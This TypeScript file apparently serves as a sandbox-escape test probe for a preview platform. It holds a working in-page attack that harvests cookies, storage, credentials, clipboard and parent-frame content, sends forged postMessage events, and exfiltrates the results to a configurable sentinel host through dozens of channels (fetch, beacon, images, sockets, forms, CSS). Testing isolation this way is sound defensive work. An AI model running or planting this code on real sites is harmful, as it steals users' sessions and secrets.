/** Where an attacker would like to go. */
export interface Targets {
  sentinel: string
  markets: string[]
  panel: string
  shops: string[]
}

/** What the script got hold of: by trick, the word for it. `got` is what an attacker could use. */
export interface Leaks {
  origin: string
  tried: Record<string, string>
  got: string[]
  isDone: boolean
}

/**
 * Runs on a page of a preview, sent there inside a package: tries everything that a script can,
 * keeps what it got, and sends it to its master in every way there is. Stands on its own, for its
 * source is what travels.
 */
export async function attacks(aims: Targets): Promise<void> {
  const leaks: Leaks = { origin: self.origin, tried: {}, got: [], isDone: false }
  const scope = window as unknown as Record<string, unknown>
  // To the proof, by a door of its own.
  const tell = () => (scope.arastaTell as ((leaks: Leaks) => void) | undefined)?.(leaks)
  // Harmless stand-ins that a preview puts there are taken away first.
  for (const name of ['localStorage', 'sessionStorage']) delete scope[name]
  delete (document as unknown as Record<string, unknown>).cookie
  const within = <T>(work: Promise<T>) =>
    Promise.race([
      work,
      new Promise<string>((resolve) => {
        setTimeout(() => resolve('nothing came'), 800)
      }),
    ])
  async function attempt(name: string, work: () => unknown): Promise<void> {
    try {
      const found = await within(Promise.resolve(work()))
      leaks.tried[name] = String(found).slice(0, 200)
      if (found !== null && found !== undefined && found !== '' && found !== 'nothing came')
        leaks.got.push(`${name}: ${String(found).slice(0, 200)}`)
    } catch (error) {
      leaks.tried[name] = (error as Error).name
    }
    tell()
  }
  const native = (proto: object, name: string) => Object.getOwnPropertyDescriptor(proto, name)?.get

  await attempt('cookie', () => native(Document.prototype, 'cookie')?.call(document))
  await attempt(
    'cookie of a new document',
    () => document.implementation.createHTMLDocument('').cookie,
  )
  await attempt('cookie store', async () =>
    JSON.stringify(
      await (scope.cookieStore as { getAll(): Promise<unknown[]> } | undefined)?.getAll(),
    ),
  )
  for (const name of ['localStorage', 'sessionStorage'])
    await attempt(name, () =>
      Object.keys(
        (native(Window.prototype, name)?.call(window) ?? scope[name] ?? {}) as object,
      ).join(),
    )
  for (const name of ['localStorage', 'cookie'])
    await attempt(`${name} of a fresh frame`, () => {
      const fresh = document.createElement('iframe')
      document.body.append(fresh)
      const inside = fresh.contentWindow as unknown as Window
      return name === 'cookie' ? inside.document.cookie : Object.keys(inside.localStorage).join()
    })
  await attempt('indexed db', async () => JSON.stringify(await indexedDB.databases()))
  await attempt('caches', async () => (await caches.keys()).join())
  await attempt('storage access', () => document.requestStorageAccess())
  await attempt('service worker', () => navigator.serviceWorker.register('/x.js'))
  await attempt('shared worker', () => {
    new SharedWorker('/x.js')
  })
  await attempt('parent document', () =>
    parent === window ? null : parent.document.documentElement.outerHTML,
  )
  await attempt('parent address', () => (parent === window ? null : parent.location.href))
  await attempt('top document', () => (top === window ? null : top?.document.cookie))
  await attempt('opener', () => (window.opener as Window | null)?.location.href)
  await attempt('frame element', () => window.frameElement)
  await attempt('other frames', () =>
    parent === window
      ? null
      : [...Array(parent.length)]
          .map((_, n) => {
            try {
              return parent[n] === window ? '' : parent[n]?.document.title
            } catch {
              return ''
            }
          })
          .join(''),
  )
  await attempt('domain', () => {
    document.domain = 'localhost'
  })
  await attempt('name of the window', () => window.name)
  await attempt('referrer', () => document.referrer)
  await attempt('credentials', async () =>
    JSON.stringify(await navigator.credentials.get({ password: true } as CredentialRequestOptions)),
  )
  await attempt('clipboard', () => navigator.clipboard.readText())
  await attempt('a window', () => window.open(`${aims.sentinel}/window`))
  await attempt('a market in a window', () => window.open(`${aims.markets[0]}/account`, 'mine'))
  await attempt('a dialog', () => window.prompt('Your password?'))

  const ways = [...aims.markets, aims.panel, ...aims.shops]
  for (const to of ways) {
    await attempt(`fetch ${to}`, async () =>
      (await fetch(`${to}/account`, { credentials: 'include' })).text(),
    )
    await attempt(`fetch api of ${to}`, async () =>
      (await fetch(`${to}/api/installations`, { credentials: 'include' })).text(),
    )
    await attempt(
      `page of ${to} in a frame`,
      () =>
        new Promise((resolve) => {
          const frame = Object.assign(document.createElement('iframe'), { src: `${to}/account` })
          frame.onload = () => {
            try {
              resolve(frame.contentDocument?.body.innerHTML)
            } catch {
              resolve('')
            }
          }
          document.body.append(frame)
        }),
    )
  }
  // Forged messages to whoever listens above.
  for (const message of [
    { type: 'arasta:preview', path: 'javascript:alert(1)', failed: 'over' },
    { type: 'arasta:launch', request_id: '1', apps_token: 'x', store_token: 'x' },
    { type: 'arasta:payment', order_number: '1', outcome: 'success' },
    { type: 'arasta:renew', request_id: '1' },
    { type: 'arasta:navigate', path: '/account' },
  ])
    for (const target of [parent, top])
      if (target && target !== window) target.postMessage(message, '*')
  const answers: string[] = []
  addEventListener('message', (event) => {
    if (event.source !== window) answers.push(JSON.stringify(event.data))
  })
  await new Promise((resolve) => {
    setTimeout(resolve, 300)
  })
  if (answers.some((answer) => !answer.includes('arasta:preview?')))
    leaks.got.push(`messages: ${answers.join()}`)

  const bag = encodeURIComponent(JSON.stringify(leaks))
  const out = (way: string) => `${aims.sentinel}/${way}?${bag}`
  await attempt(
    'out by fetch',
    async () => (await fetch(out('fetch'), { mode: 'no-cors', credentials: 'include' })).type,
  )
  await attempt('out by beacon', () => {
    navigator.sendBeacon(out('beacon'), bag)
  })
  await attempt('out by image', () => {
    new Image().src = out('image')
  })
  await attempt(
    'out by request',
    () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.open('POST', out('request'))
        request.onload = () => resolve(request.status)
        request.onerror = () => reject(new TypeError('refused'))
        request.send(bag)
      }),
  )
  await attempt('out by events', () => {
    new EventSource(out('events'))
  })
  await attempt('out by socket', () => {
    new WebSocket(out('socket').replace('http', 'ws'))
  })
  await attempt('out by worker', () => {
    new Worker(
      URL.createObjectURL(new Blob([`fetch(${JSON.stringify(out('worker'))},{mode:'no-cors'})`])),
    )
  })
  await attempt('out by import', () => import(out('import')))
  for (const [tag, attribute] of [
    ['script', 'src'],
    ['iframe', 'src'],
    ['embed', 'src'],
    ['object', 'data'],
    ['video', 'src'],
    ['audio', 'src'],
    ['track', 'src'],
  ] as const) {
    await attempt(`out by ${tag}`, () =>
      document.body.append(Object.assign(document.createElement(tag), { [attribute]: out(tag) })),
    )
  }
  for (const rel of [
    'stylesheet',
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'icon',
    'manifest',
  ]) {
    await attempt(`out by link ${rel}`, () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel, href: out(rel), as: 'image' }),
      ),
    )
  }
  await attempt('out by style', () =>
    document.head.append(
      Object.assign(document.createElement('style'), {
        textContent: `@import url("${out('import-style')}"); @font-face{font-family:x;src:url("${out('font')}")} body{font-family:x;background:url("${out('background')}");cursor:url("${out('cursor')}"),auto;list-style-image:url("${out('list')}")}`,
      }),
    ),
  )
  for (const [method, target] of [
    ['post', '_self'],
    ['get', '_self'],
    ['post', '_top'],
    ['post', '_blank'],
  ] as const) {
    await attempt(`out by form ${method} ${target}`, () => {
      const form = Object.assign(document.createElement('form'), {
        action: out('form'),
        method,
        target,
      })
      document.body.append(form)
      HTMLFormElement.prototype.submit.call(form)
    })
  }
  for (const target of ['_top', '_parent', '_blank']) {
    await attempt(`out by link to ${target}`, () => {
      const link = Object.assign(document.createElement('a'), {
        href: out('link'),
        target,
        ping: out('ping'),
      })
      document.body.append(link)
      link.click()
    })
  }
  await attempt('out by the top window', () => {
    if (top && top !== window) top.location.href = out('top')
  })
  await attempt('out by the parent', () => {
    if (parent !== window) parent.location.replace(out('parent'))
  })
  await attempt('a base of its own', () => {
    document.head.prepend(Object.assign(document.createElement('base'), { href: aims.sentinel }))
    return new URL('x', document.baseURI).origin === aims.sentinel
      ? 'every address leads elsewhere'
      : ''
  })
  leaks.isDone = true
  tell()
}

/** Last, for it takes the page away: the page itself goes to its master, with all it has. */
export function leave([sentinel, leaks]: readonly [string, Leaks]): void {
  location.href = `${sentinel}/leave?${encodeURIComponent(JSON.stringify(leaks))}`
}
